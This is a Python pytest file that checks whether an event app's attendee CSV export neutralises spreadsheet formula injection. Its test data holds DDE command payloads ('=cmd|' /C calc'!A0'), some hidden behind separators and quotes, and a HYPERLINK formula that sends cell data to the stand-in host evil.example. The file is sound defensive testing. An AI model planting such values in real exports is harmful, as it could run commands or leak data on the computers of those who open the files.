"""The attendee CSV runs nothing in a spreadsheet, whatever separator opens it. Every cell
is quoted; and since a program whose locale lists with ";" (or a tab) splits a
comma-separated file at its own separator — quotes or not —, no piece of a cell may
start a formula either. Names are what buyers type, gates what devices send."""

from __future__ import annotations

import csv
import io

import pytest
from sqlmodel import select

from payflow_app.core.db import write_transaction
from payflow_app.models import User
from payflow_app.services.organizer import attendees
from payflow_app.services.tickets import checkin
from tests import factories

FORMULA_START = ("=", "+", "-", "@")
HOSTILE_NAMES = [
    "Ada;Lovelace,\t=cmd|' /C calc'!A0",
    'Bob,=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "Eve\t@SUM(1+1)*cmd|' /C calc'!A0",
    "\"; =cmd|'/c calc'!A0",
    "x\";\"=2+5+cmd|' /C calc'!A0",
    "Mallory\n-2+3+cmd|' /C calc'!A0",
    "+48 600 100 200",
    "=1+1",
]
HOSTILE_GATE = "North;=cmd|' /C calc'!A0"


@pytest.fixture
def exported(seeded: str) -> str:
    for i, name in enumerate(HOSTILE_NAMES):
        email = f"buyer{i}@example.com"
        order = factories.paid_order(email=email)
        with write_transaction() as session:
            user = session.exec(select(User).where(User.email == email)).one()
            user.full_name = name
    ticket = factories.tickets_of(order)[0]
    event_id = factories.ticket_type("Standard").event_id
    assert checkin.check_in(
        checkin.Gate(event_id=event_id, name=HOSTILE_GATE, operator="Olga"), ticket.number
    ).ok
    return attendees.attendees_csv(event_id)


def _starts_a_formula(cell: str) -> bool:
    # Spreadsheets may trim spaces and stray quotes before they look at a cell.
    return cell.lstrip(' \t\r\n"')[:1] in FORMULA_START


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_starts_a_formula_whichever_separator_reads_the_file(exported: str, separator: str) -> None:
    cells = [cell for row in csv.reader(io.StringIO(exported), delimiter=separator) for cell in row]
    assert len(cells) > len(HOSTILE_NAMES) and any("cmd" in cell for cell in cells)
    assert [cell for cell in cells if _starts_a_formula(cell)] == []


def test_every_cell_is_quoted_and_the_data_reads_back_with_commas(exported: str) -> None:
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[0] == list(attendees.CSV_COLUMNS)
    assert all(len(row) == len(attendees.CSV_COLUMNS) for row in rows)
    # QUOTE_ALL: every line's cells are each wrapped in quotes, the empty ones too.
    records = exported.split("\r\n")
    assert all(line.startswith('"') and line.endswith('"') for line in records[:2])
    holders = {row[1] for row in rows[1:]}
    # A neutralised name only gains a ' before each would-be formula: nothing else changes.
    assert {name.replace("'", "") for name in holders} == {name.replace("'", "") for name in HOSTILE_NAMES}
    assert "'=1+1" in holders and "'+48 600 100 200" in holders
    assert "Ada;Lovelace,\t'=cmd|' /C calc'!A0" in holders
    (gate,) = {row[8] for row in rows[1:] if row[8]}
    assert gate == "North;'=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Ada Lovelace", "Ada Lovelace"),
        ("Jean-Luc Picard", "Jean-Luc Picard"),  # a hyphen inside a name is no formula
        ("a@b.example", "a@b.example"),
        ("=cmd", "'=cmd"),
        ("\tplain", "'\tplain"),
        ("a;=b", "a;'=b"),
        ('a; "@b', "a; \"'@b"),
        ("a\r\n+b", "a\r\n'+b"),
    ],
)
def test_a_cell_is_neutralised_only_where_a_formula_could_start(value: str, expected: str) -> None:
    assert attendees._cell(value) == expected
